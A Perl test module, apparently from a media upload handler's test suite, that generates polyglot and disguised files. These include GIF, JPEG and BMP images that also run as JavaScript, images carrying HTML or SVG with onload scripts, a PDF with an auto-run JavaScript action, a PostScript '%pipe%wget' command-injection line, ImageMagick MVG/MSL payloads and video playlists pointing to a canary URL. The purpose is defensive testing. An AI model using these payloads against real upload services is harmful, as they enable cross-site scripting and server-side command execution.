# Files that are two things at once, or are not what they say: each with what
# gesso is to make of it.
#
#	for (polyglots('http://127.0.0.1:1234')) {
#		my ($kind, $what, $bytes, $type) = @$_;
#	}
#
# kind is that of the upload (image, video), type what it is kept as, undef when
# it is refused.  Whoever runs one of them calls the address, with its number.
package Polyglots;
use strict;
use warnings;
use Compress::Zlib qw(crc32 memGzip);
use Exporter qw(import);
use Media qw(png png_chunk sample film);

our @EXPORT_OK = qw(polyglots);

sub polyglots {
	my ($trap) = @_;
	my $n = 0;
	return map { $_->(++$n, "$trap/" . $n) } pictures(), texts(), films();
}

sub script {
	my ($url) = @_;
	return "new Image().src='$url?image';fetch('$url?fetch');" .
	    "location='$url?location';";
}

sub html {
	my ($url) = @_;
	return '<!DOCTYPE html><html><body onload="' . script($url) .
	    '"><script>' . script($url) . "</script><img src=\"$url?img\">" .
	    "<meta http-equiv=\"refresh\" content=\"0;url=$url?meta\">" .
	    '</body></html>';
}

sub svg {
	my ($url) = @_;
	return '<svg xmlns="http://www.w3.org/2000/svg" width="99" ' .
	    'height="99" onload="' . script($url) . '"><script>' .
	    script($url) . "</script><image href=\"$url?svg\"/></svg>";
}

# One stored file, as it is in a JAR.
sub zip {
	my ($url) = @_;
	my ($name, $data) = ('x.html', html($url));
	my $head = pack('vvvvvVVVvv', 20, 0, 0, 0, 0, crc32($data),
	    length $data, length $data, length $name, 0);
	my $local = "PK\3\4$head$name$data";
	my $central = "PK\1\2" . pack('v', 20) . $head .
	    pack('vvvVV', 0, 0, 0, 0, 0) . $name;
	return $local . $central . "PK\5\6" . pack('vvvvVVv', 0, 0, 1, 1,
	    length $central, length $local, 0);
}

sub pdf {
	my ($url) = @_;
	return "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript" .
	    "/JS(app.launchURL\\('$url'\\))>>>>endobj\n" .
	    "trailer<</Root 1 0 R>>\n%%EOF\n";
}

# ---- pictures that are something else, too

sub gif_comment {
	my ($text) = @_;
	return "\x21\xfe" . join('', map { chr(length) . $_ }
	    $text =~ /.{1,255}/gs) . "\0";
}

# In front of the picture of a GIF: behind its header and colours.
sub gif_with {
	my ($more) = @_;
	my $gif = sample('still.gif');
	my $colours = 13 + 3 * 2 ** ((ord(substr $gif, 10, 1) & 7) + 1);
	return substr($gif, 0, $colours) . $more . substr $gif, $colours;
}

# "GIF89a/*": 10799 pixels wide to a decoder, a comment to a script.
sub gif_script {
	my ($js) = @_;
	# codes of three bits: before each pixel the table is cleared
	my $pixels = pack 'b*', '001000' x 10799 . '101';
	return "GIF89a/*\1\0\x80\0\0\xff\0\0\0\xff\0," .
	    pack('vvvvC', 0, 0, 10799, 1, 0) . "\2" . join('', map {
		chr(length) . $_ } $pixels =~ /.{1,255}/gs) .
	    "\0;*/=1;$js";
}

sub jpeg_with {
	my ($marker, $data) = @_;
	my $jpeg = sample('baseline.jpg');
	return "\xff\xd8\xff$marker" . pack('n', 2 + length $data) . $data .
	    substr $jpeg, 2;
}

# The length of the first segment is "/*".
sub jpeg_script {
	my ($js) = @_;
	my $comment = "*/=1;$js/*";
	return jpeg_with("\xe0", "JFIF\0\1\1\0\0\1\0\1\0\0" .
	    "\0" x (0x2f2a - 2 - 14 - length $comment) . $comment);
}

sub webp_with {
	my ($chunk) = @_;
	my $webp = sample('lossy.webp') . $chunk;
	return 'RIFF' . pack('V', length($webp) - 8) . substr $webp, 8;
}

sub webp_chunk {
	my ($data) = @_;
	return 'XMP ' . pack('V', length $data) . $data .
	    (length($data) % 2 ? "\0" : '');
}

sub picture {
	my ($what, $make, $type) = @_;
	return sub {
		my ($n, $url) = @_;
		return [ 'image', $what, $make->($url), $type ];
	};
}

sub pictures {
	return (
		picture('GIF and script', sub { gif_script(script($_[0])) },
		    'image/gif'),
		picture('GIF with a page in a comment',
		    sub { gif_with(gif_comment(html($_[0]))) }, 'image/gif'),
		picture('GIF before a page',
		    sub { sample('still.gif') . html($_[0]) }, 'image/gif'),
		picture('GIF and JAR',
		    sub { sample('animated.gif') . zip($_[0]) }, 'image/gif'),
		picture('GIF before SVG',
		    sub { sample('still.gif') . svg($_[0]) }, 'image/gif'),
		picture('PNG with a page in a text',
		    sub { png(64, 64, undef, png_chunk('tEXt',
			"Comment\0" . html($_[0]))) }, 'image/png'),
		picture('PNG with SVG in a text',
		    sub { png(64, 64, undef, png_chunk('iTXt',
			"XML:com.adobe.xmp\0\0\0\0\0" . svg($_[0]))) },
		    'image/png'),
		picture('PNG with a page in a chunk of its own',
		    sub { png(64, 64, undef, png_chunk('paGe',
			html($_[0]))) }, 'image/png'),
		picture('PNG before a page',
		    sub { png(64, 64) . html($_[0]) }, 'image/png'),
		picture('PNG and ZIP', sub { png(64, 64) . zip($_[0]) },
		    'image/png'),
		picture('PNG before PDF', sub { png(64, 64) . pdf($_[0]) },
		    'image/png'),
		picture('JPEG and script',
		    sub { jpeg_script(script($_[0])) }, 'image/jpeg'),
		picture('JPEG with a page in a comment',
		    sub { jpeg_with("\xfe", html($_[0])) }, 'image/jpeg'),
		picture('JPEG with a page for Exif',
		    sub { jpeg_with("\xe1", "Exif\0\0" . html($_[0])) },
		    'image/jpeg'),
		picture('JPEG before a page',
		    sub { sample('baseline.jpg') . html($_[0]) },
		    'image/jpeg'),
		picture('JPEG and JAR',
		    sub { sample('baseline.jpg') . zip($_[0]) },
		    'image/jpeg'),
		picture('WebP with a page for XMP',
		    sub { webp_with(webp_chunk(html($_[0]))) },
		    'image/webp'),
		picture('WebP before a page',
		    sub { sample('lossy.webp') . html($_[0]) },
		    'image/webp'),
	);
}

# ---- what only says that it is a picture

sub texts {
	my @made = (
		[ 'a page', sub { html($_[0]) } ],
		[ 'a page behind blanks', sub { " \n\t" . html($_[0]) } ],
		[ 'a page in UTF-16', sub { "\xff\xfe" .
		    join '', map { "$_\0" } split //, html($_[0]) } ],
		[ 'a page behind the head of a PNG',
		    sub { "\x89PNG\r\n\x1a\n" . html($_[0]) } ],
		[ 'a page behind the head of a GIF',
		    sub { "GIF89a" . html($_[0]) } ],
		[ 'a page behind the head of a JPEG',
		    sub { "\xff\xd8\xff" . html($_[0]) } ],
		[ 'a page behind the head of a WebP',
		    sub { "RIFF\xff\0\0\0WEBP" . html($_[0]) } ],
		[ 'a page before a GIF',
		    sub { html($_[0]) . sample('still.gif') } ],
		[ 'SVG', sub { svg($_[0]) } ],
		[ 'SVG with a prologue', sub { '<?xml version="1.0"?>' .
		    svg($_[0]) } ],
		[ 'SVG, packed', sub { memGzip(svg($_[0])) } ],
		[ 'PDF', sub { pdf($_[0]) } ],
		[ 'PDF before a JPEG', sub { pdf($_[0]) .
		    sample('baseline.jpg') } ],
		[ 'script', sub { script($_[0]) } ],
		[ 'XML with a style of its own', sub {
		    "<?xml version=\"1.0\"?><?xml-stylesheet " .
		    "type=\"text/xsl\" href=\"$_[0]\"?><x/>" } ],
		[ 'BMP and script', sub { "BM/*\0\0\0\0\0\0\x36\0\0\0" .
		    "\x28\0\0\0\1\0\0\0\1\0\0\0\1\0\x18\0" . "\0" x 28 .
		    '*/=1;' . script($_[0]) } ],
		[ 'PostScript', sub { "%!PS-Adobe-3.0\n" .
		    "(%pipe%wget $_[0]) (r) file\n" } ],
		[ 'MVG', sub { "push graphic-context\nviewbox 0 0 64 64\n" .
		    "image over 0,0 0,0 'url($_[0])'\npop graphic-context\n" } ],
		[ 'MSL', sub { "<?xml version=\"1.0\"?><image>" .
		    "<read filename=\"$_[0]\"/></image>" } ],
		[ 'Flash', sub { "FWS\6\x20\0\0\0" . html($_[0]) } ],
		[ 'JAR', sub { zip($_[0]) } ],
		[ 'a style', sub { "body{background:url($_[0])}" } ],
	);
	return map { picture(@$_) } @made;
}

# ---- films

sub box {
	my ($type, $data) = @_;
	return pack('N', 8 + length $data) . $type . $data;
}

sub films {
	return () unless film('a.mp4', 64, 48, 1, 5, 'libx264');
	my @made = (
		[ 'MP4 with a page in a box', sub { my $film =
		    sample('h264.mp4'); return $film . box('free',
		    html($_[0])) }, 'video/mp4' ],
		[ 'MP4 with a page for its name', sub {
		    my $film = sample('h264.mp4');
		    return $film . box('udta', box('titl', html($_[0]))) },
		    'video/mp4' ],
		[ 'MP4 before a page', sub { sample('h264.mp4') .
		    html($_[0]) } ],
		[ 'WebM before a page', sub { sample('vp8.webm') .
		    html($_[0]) }, 'video/webm' ],
		[ 'MOV and JAR', sub { sample('mjpeg.mov') . zip($_[0]) } ],
		[ 'a page behind the head of an MP4', sub {
		    box('ftyp', 'isom' . "\0" x 4 . 'isom') . html($_[0]) } ],
		[ 'a page behind the head of a WebM', sub {
		    "\x1a\x45\xdf\xa3\x84webm" . html($_[0]) } ],
		[ 'a playlist', sub { "#EXTM3U\n#EXT-X-TARGETDURATION:1\n" .
		    "#EXTINF:1,\n$_[0]\n#EXT-X-ENDLIST\n" } ],
		[ 'a playlist behind the head of an MP4', sub {
		    box('ftyp', 'isom' . "\0" x 4 . 'isom') .
		    "#EXTM3U\n#EXTINF:1,\n$_[0]\n" } ],
		[ 'a list of films', sub {
		    "ffconcat version 1.0\nfile '$_[0]'\n" } ],
		[ 'a film that lies elsewhere', sub {
		    my $film = sample('mjpeg.mov');
		    my $entry = box('url ', "\0\0\0\0$_[0]\0");
		    $film =~ s/dref/DREF/;
		    return $film . box('dref', "\0" x 8 . $entry) },
		    undef ],
		[ 'a manifest', sub { '<?xml version="1.0"?><MPD ' .
		    'xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>' .
		    "$_[0]</BaseURL></MPD>" } ],
	);
	return map {
		my ($what, $make, $type) = @$_;
		sub { [ 'video', $what, $make->($_[1]), $type ] }
	} @made;
}

1;
